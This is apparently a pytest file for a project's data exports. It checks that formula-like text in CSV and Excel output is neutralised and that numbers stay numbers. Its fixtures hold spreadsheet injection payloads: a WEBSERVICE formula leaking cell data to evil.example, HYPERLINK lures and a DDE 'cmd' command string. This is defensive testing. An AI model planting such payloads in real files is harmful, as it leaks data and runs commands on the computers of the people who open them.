"""Spreadsheet formula injection (issue 11, item 2), on SQLite and PostgreSQL: text that a
spreadsheet would run as a formula (file names, prompts, asset names, titles, reasons) is
written as text in CSV (a leading apostrophe) and Excel (a string cell with the quote-prefix
flag), stays exact in Parquet and JSON Lines, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pyarrow.parquet as pq

from stage8.decisions.attempts import add_attempt, select_attempt, trash_attempt
from stage8.projects import add_asset, add_instance, add_scene, create_project
from stage8.reads.export.stream import WHATS, ExportFilters, columns_of, export_bytes
from tests.builders import png, stored_image

# Written out here, not imported: the test states the rule independently of the code.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FILENAMES = [
    "=1+1.png",
    '=HYPERLINK("https://evil.example/?leak","click").png',
    "@SUM(1+2).jpg",
    "+1+2.png",
    "-2+3.png",
    "\t=tab.png",
    "\r=cr.png",
]
PROMPT = '=WEBSERVICE("https://evil.example/?"&A1)'
PROJECT = "=cmd|' /C calc'!A0"
TITLE = "@SUM(A1:A9)"
ASSETS = {"=Hero": "character", "+Harbour": "location", "-Knife": "prop", "@Villain": "character"}
REASON = '=HYPERLINK("https://evil.example","why")'
ACTOR = "@lead"
NEGATIVE_COST = Decimal("-1.5")


def hostile_world(desk) -> set[str]:
    """A project whose every free-text field begins with a formula trigger; returns them."""
    pid = create_project(desk, PROJECT)
    scene = add_scene(desk, pid, 1, TITLE)
    instances = []
    for i, (name, kind) in enumerate(ASSETS.items()):
        asset = add_asset(desk, pid, name, kind, image_bytes=png(100 + i))
        instances.append(add_instance(desk, scene, asset, description=f"{name} here"))
    first = None
    for n, filename in enumerate(FILENAMES):
        change = add_attempt(
            desk,
            instances[n % len(instances)],
            source="uploaded",
            image_id=stored_image(desk, pid, 200 + n),
            actor=ACTOR,
            original_filename=filename,
            original_format="PNG",
            original_byte_size=100 + n,
        )
        first = first or change.attempt.id
    generated = add_attempt(
        desk,
        instances[0],
        source="generated",
        image_id=stored_image(desk, pid, 300),
        actor=ACTOR,
        select_it=False,
        cost_usd=NEGATIVE_COST,
        prompt=PROMPT,
        provider="offline",
        model="-model",
    )
    trash_attempt(desk, generated.attempt.id, actor=ACTOR, reason=REASON)
    select_attempt(desk, first, actor=ACTOR, reason=REASON)
    return {*FILENAMES, PROMPT, PROJECT, TITLE, *ASSETS, REASON, ACTOR, "-model"}


def export(desk, what: str, fmt: str) -> bytes:
    """Every row of the table, trashed attempts included."""
    return export_bytes(desk, what, fmt, ExportFilters(include_trashed=what == "attempts"))


def exact_rows(desk, what: str) -> list[dict]:
    return pq.read_table(io.BytesIO(export(desk, what, "parquet"))).to_pylist()


def text_values(rows: list[dict], what: str) -> set[str]:
    names = [c.name for c in columns_of(what) if c.kind == "text"]
    return {r[n] for r in rows for n in names if r[n] is not None}


def guarded(value: str) -> str:
    return "'" + value if value.startswith(TRIGGERS) else value


def test_parquet_and_json_lines_keep_the_exact_text(desk):
    hostile = hostile_world(desk)
    seen: set[str] = set()
    for what in WHATS:
        exact = exact_rows(desk, what)
        lines = export(desk, what, "jsonl").decode("utf-8").splitlines()
        assert len(lines) == len(exact)
        texts = [c.name for c in columns_of(what) if c.kind in ("text", "json")]
        for want, line in zip(exact, lines, strict=True):
            got = json.loads(line)
            assert {n: got[n] for n in texts} == {n: want[n] for n in texts}
        seen |= text_values(exact, what)
    assert hostile <= seen  # every hostile text came back exactly, nothing was prefixed
    assert not any(v.startswith("'") for v in seen)


def test_csv_prefixes_formula_like_text_and_keeps_numbers(desk):
    hostile_world(desk)
    for what in WHATS:
        exact = exact_rows(desk, what)
        got = list(csv.DictReader(io.StringIO(export(desk, what, "csv").decode("utf-8"))))
        assert len(got) == len(exact)
        for want, row in zip(exact, got, strict=True):
            for c in columns_of(what):
                if c.kind in ("text", "json") and want[c.name] is not None:
                    assert row[c.name] == guarded(want[c.name]), (what, c.name)
                    assert not row[c.name].startswith(TRIGGERS), (what, c.name)
    attempts = list(csv.DictReader(io.StringIO(export(desk, "attempts", "csv").decode())))
    assert {r["original_filename"] for r in attempts} >= {"'=1+1.png", "'\t=tab.png"}
    raw = export(desk, "attempts", "csv").decode()
    assert "'=HYPERLINK(" in raw and "\n=" not in raw and ",=" not in raw and ",@" not in raw


def test_excel_writes_text_cells_never_formulas(desk):
    hostile_world(desk)
    for what in WHATS:
        exact = exact_rows(desk, what)
        sheet = openpyxl.load_workbook(io.BytesIO(export(desk, what, "xlsx")))["export"]
        rows = list(sheet.iter_rows(min_row=2))
        assert len(rows) == len(exact)
        kinds = [c.kind for c in columns_of(what)]
        for want, cells in zip(exact, rows, strict=True):
            for kind, cell, value in zip(kinds, cells, want.values(), strict=True):
                assert cell.data_type != "f", (what, cell.coordinate, cell.value)
                if kind in ("text", "json") and value is not None:
                    # XML reads a carriage return as a line feed (docs/export_schema.md).
                    assert cell.data_type == "s", cell.coordinate
                    assert cell.value == value.replace("\r", "\n"), cell.coordinate
                    assert cell.quotePrefix == value.startswith(TRIGGERS), cell.coordinate
    sheet = openpyxl.load_workbook(io.BytesIO(export(desk, "attempts", "xlsx")))["export"]
    header = [c.value for c in sheet[1]]
    costs = [row[header.index("cost_usd")] for row in sheet.iter_rows(min_row=2)]
    negative = [c for c in costs if c.value is not None]
    assert [(c.value, c.data_type) for c in negative] == [(-1.5, "n")]  # a number, not text


def test_negative_costs_stay_numbers_in_csv(desk):
    hostile_world(desk)
    attempts = list(csv.DictReader(io.StringIO(export(desk, "attempts", "csv").decode())))
    assert [r["cost_usd"] for r in attempts if r["cost_usd"]] == ["-1.50000000"]
    instances = list(csv.DictReader(io.StringIO(export(desk, "instances", "csv").decode())))
    assert sorted(r["total_cost_usd"] for r in instances)[0] == "-1.50000000"


def test_command_line_exports_are_guarded_too(desk, run, tmp_path):
    hostile_world(desk)
    target = tmp_path / "attempts.csv"
    done = run("export", "--what", "attempts", "--include-trashed", "-o", str(target))
    assert done.returncode == 0, done.stderr
    assert target.read_bytes() == export(desk, "attempts", "csv")
    assert "'=1+1.png" in target.read_text(encoding="utf-8")
    book = tmp_path / "events.xlsx"
    done = run("export", "--what", "events", "-o", str(book))
    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(book)["export"]
    reasons = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == REASON]
    assert reasons and all(c.data_type == "s" and c.quotePrefix for c in reasons)
